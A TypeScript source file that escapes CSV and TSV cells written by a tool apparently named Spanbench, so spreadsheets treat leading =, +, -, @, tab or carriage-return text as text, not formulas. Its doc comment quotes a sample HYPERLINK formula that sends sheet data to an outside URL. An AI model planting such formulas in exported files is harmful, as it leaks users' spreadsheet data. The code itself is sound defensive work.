/**
 * Cells of every CSV and TSV file Spanbench writes, safe to open in a
 * spreadsheet (OWASP, "CSV Injection"): a text cell that begins with `=`,
 * `+`, `-`, `@`, a tab or a carriage return would be run as a formula by
 * Excel, LibreOffice or Google Sheets (a quoted news headline like
 * `=HYPERLINK("http://…?leak="&A2, …)` sends the sheet's data away), so it is
 * prefixed with a single quote, which spreadsheets show as text. Numbers are
 * written as numbers. Readers that want the exact text drop one leading `'`
 * before one of those characters. CoNLL/IOB token files are not spreadsheet
 * files and keep their tokens exact (a token `-DOCSTART-` must stay as it is).
 */

const FORMULA_START = /^[=+\-@\t\r]/

/** The text as a spreadsheet shows it as text, never as a formula. */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text
}

/** One RFC 4180 CSV field: formulas neutralised, quoted when it holds `"`, `,` or a line break. */
export function csvCell(value: string | number | null | undefined): string {
  if (value === null || value === undefined) return ''
  if (typeof value === 'number') return String(value)
  const text = neutralizeFormula(value)
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text
}

/** One TSV field: formulas neutralised; tabs and line breaks become spaces (TSV cannot quote). */
export function tsvCell(value: string | number | null | undefined): string {
  if (value === null || value === undefined) return ''
  if (typeof value === 'number') return String(value)
  return neutralizeFormula(value).replace(/[\t\r\n]/g, ' ')
}
